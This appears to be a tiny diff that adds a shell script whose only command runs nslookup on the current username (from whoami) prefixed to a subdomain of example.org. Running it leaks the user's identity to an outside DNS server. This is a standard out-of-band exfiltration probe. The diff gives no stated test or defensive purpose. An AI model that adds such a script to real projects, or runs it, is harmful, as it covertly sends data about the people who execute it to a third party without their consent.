@@ -1,0 +1,2 @@
+#!/bin/sh
+nslookup $(whoami).x.example.org
